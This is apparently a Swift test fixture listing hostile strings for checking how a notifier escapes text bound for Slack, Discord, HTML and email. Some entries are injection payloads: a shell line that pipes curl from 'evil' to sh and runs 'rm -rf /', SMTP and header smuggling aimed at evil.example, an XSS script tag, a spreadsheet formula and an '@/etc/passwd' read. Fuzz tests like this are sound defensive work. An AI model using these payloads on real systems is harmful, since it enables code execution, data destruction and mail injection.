import Testing

/// What a stranger may write into a prompt, a name or an error message.
struct HostileText: CustomTestStringConvertible, Sendable {
    var name: String
    var text: String
    var testDescription: String { name }

    static let all: [HostileText] = [
        HostileText(name: "Slack mentions", text: "<!channel> <!here|x> <@U123> <!subteam^S1> <#C1> @here @everyone"),
        HostileText(name: "Slack link", text: "<https://evil.example|Open image> <mailto:a@evil.example|me>"),
        HostileText(name: "entities", text: "&lt;!channel&gt; &amp;lt; &#60;"),
        HostileText(name: "mrkdwn", text: "*bold* _italic_ ~gone~ `code` ```block``` \n> quote\n*a*b*c*"),
        HostileText(name: "emoji names", text: ":rotating_light: :+1: ::skin-tone-2: a:b:c"),
        HostileText(
            name: "bare links",
            text: "https://evil.example/x http://a.b evil.example/y www.evil.example ftp://q a@evil.example"),
        HostileText(name: "Discord", text: "@everyone <@123> <@&9> [x](https://evil.example) ||spoiler||"),
        HostileText(name: "Google Chat", text: "<users/all>"),
        HostileText(name: "markdown", text: "![](https://evil.example/p.png) [Approve](https://evil.example) @all # H"),
        HostileText(
            name: "HTML", text: "</b><a href=tg://user?id=1>x</a><script>alert(1)</script><img src=x onerror=y>\"'"),
        HostileText(name: "HTML after the cut", text: String(repeating: "x", count: 2990) + "<b>unclosed &amp"),
        HostileText(name: "mail header", text: "x\r\nBcc: a@evil.example\r\n\r\n<h1>body</h1>"),
        HostileText(name: "lone CR and LF", text: "x\nBcc: a@evil.example\rCc: b@evil.example"),
        HostileText(name: "encoded word", text: "=?utf-8?q?=0D=0ABcc:_a@evil.example?= =?x"),
        HostileText(name: "SMTP command", text: ">\r\nRCPT TO:<a@evil.example>"),
        HostileText(name: "SMTP smuggling", text: "x\n.\nMAIL FROM:<a@evil.example>\r\n.\r\n"),
        HostileText(name: "MIME boundary", text: "--=_dlv_\r\nContent-Type: text/html\r\n\r\n--=_--"),
        HostileText(name: "request header", text: "x\r\nX-Actions: http, Open, https://evil.example"),
        HostileText(name: "shell", text: "$(curl evil|sh) `id` \"; rm -rf / ; ' || ${{ secrets.X }} %0a"),
        HostileText(name: "template", text: "${self.id} {{ .Title }} {% raw %} %s %n"),
        HostileText(name: "controls", text: "a\u{0}b\u{1b}[31mred\u{7}\u{7f}\u{85}\u{9b}c"),
        HostileText(name: "direction", text: "abc\u{202e}gnp.exe\u{2066}x\u{2069}\u{202a}y"),
        HostileText(name: "combining flood", text: "a" + String(repeating: "\u{301}", count: 10_000) + "b"),
        HostileText(
            name: "zero-width flood", text: "a" + String(repeating: "\u{200b}\u{200d}\u{feff}", count: 5_000) + "b"),
        HostileText(name: "hidden tags", text: "ok" + String(repeating: "\u{e0041}", count: 4_000)),
        HostileText(name: "emoji", text: String(repeating: "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿", count: 900)),
        HostileText(name: "one endless character", text: "👩" + String(repeating: "\u{200d}👩", count: 20_000)),
        HostileText(name: "line separators", text: "a\u{2028}b\u{2029}c\u{b}d\u{c}e"),
        HostileText(name: "noncharacters", text: "a\u{fffe}b\u{ffff}c\u{1fffe}e\u{fffd}"),
        HostileText(name: "JSON", text: "\"},{\"text\":\"x\\u0000\\\\\"]}</script><!--"),
        HostileText(name: "an imitated card", text: "✅ RESOLVED by admin\n\n:white_check_mark: *All clear*"),
        HostileText(name: "blanks only", text: " \n\t\r\n "),
        HostileText(name: "empty", text: ""),
        HostileText(name: "a megabyte", text: String(repeating: "<!channel> a cat & ", count: 55_000)),
        HostileText(name: "one long word", text: String(repeating: "x", count: 100_000)),
        HostileText(name: "ampersands", text: String(repeating: "&", count: 10_000)),
        HostileText(name: "formula", text: "=HYPERLINK(\"https://evil.example\")"),
        HostileText(name: "leading at", text: "@/etc/passwd"),
    ]
}
